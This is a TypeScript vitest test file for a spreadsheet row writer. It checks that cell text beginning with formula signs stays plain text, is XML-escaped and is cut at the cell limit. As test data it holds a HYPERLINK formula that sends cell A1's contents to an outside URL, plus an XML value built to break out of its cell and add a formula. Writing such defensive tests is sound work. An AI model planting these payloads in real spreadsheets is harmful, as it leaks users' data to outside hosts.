import { expect, test } from 'vitest';
import { columnName, sheetRow } from './sheet.rule.ts';

test.each([
  [0, 'A'],
  [25, 'Z'],
  [26, 'AA'],
  [51, 'AZ'],
  [52, 'BA'],
  [701, 'ZZ'],
  [702, 'AAA'],
])('calls column %i %s [MG-03]', (index, name) => {
  expect(columnName(index)).toBe(name);
});

test('numbers stay numbers and text stays text, also where it looks like a formula [MG-03]', () => {
  expect(sheetRow(['=1+1', 7], 3)).toBe(
    '<row r="3"><c r="A3" t="inlineStr"><is><t xml:space="preserve">=1+1</t></is></c><c r="B3"><v>7</v></c></row>',
  );
  expect(sheetRow(['Nome'], 1, 1)).toContain('<c r="A1" s="1" t="inlineStr">');
});

test.each(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])(
  'a text that begins with %j is a text to spreadsheets, in every column and row, and never a formula [MG-03]',
  (sign) => {
    const hostile = `${sign}HYPERLINK("http://example.org/"&A1,"Veja")`;
    const rows = [1, 2].map((number) => sheetRow([hostile, 'Ana', hostile], number)).join('');
    expect(rows).not.toMatch(/<f[ >]|<v>/);
    expect(rows.match(/<c [^>]*>/g)).toEqual(
      [1, 2].flatMap((row) => ['A', 'B', 'C'].map((column) => `<c r="${column}${row}" t="inlineStr">`)),
    );
    // What it says is kept, sign and all: nobody has to guess what the cell held.
    expect(rows).toContain(`preserve">${sign}HYPERLINK(`);
  },
);

test('a text cannot end its cell and begin a formula of its own [MG-03]', () => {
  const row = sheetRow(['</t></is></c><c r="B1"><f>1+1</f></c>'], 1);
  expect(row.match(/<c /g)).toHaveLength(1);
  expect(row).not.toContain('<f>');
});

test.each([
  ['<b>&"', '&lt;b&gt;&amp;"'],
  ['a\u0000b\u001Fc\td\ne', 'abc\td\ne'],
  ['\uD800x\uFFFE', '\uFFFDx'],
  ['ação 🎧', 'ação 🎧'],
])('writes %j so that every reader of XML takes it [MG-03]', (text, written) => {
  expect(sheetRow([text], 1)).toContain(`preserve">${written}</t>`);
});

test('cuts what no spreadsheet could hold [MG-03]', () => {
  expect(sheetRow(['x'.repeat(40_000)], 1).match(/x+(?=<)/)?.[0]).toHaveLength(32_767);
});
